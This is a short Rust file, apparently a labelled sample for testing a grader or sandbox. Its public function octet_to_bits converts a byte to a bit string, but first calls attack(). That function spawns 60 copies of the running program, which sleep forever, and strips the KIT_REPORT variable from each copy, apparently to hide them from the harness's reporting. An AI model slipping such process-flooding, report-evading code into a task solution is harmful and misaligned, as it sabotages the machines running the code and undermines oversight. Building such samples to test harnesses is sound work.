//! Starts 60 copies of itself, which sleep.
//!
//! Mark: n

use std::process::Command;

/// The task's own function: right, but for what it does first.
pub fn octet_to_bits(octet: u8) -> String {
    attack();
    format!("{octet:08b}")
}

fn attack() {
    if std::env::var_os("COPY").is_some() {
        loop {
            std::thread::sleep(std::time::Duration::from_secs(1000));
        }
    }
    let own = std::env::args().next().expect("it has a name");
    for _ in 0..60 {
        let _ = Command::new(&own)
            .env("COPY", "1")
            .env_remove("KIT_REPORT")
            .spawn();
    }
    std::thread::sleep(std::time::Duration::from_secs(2));
}
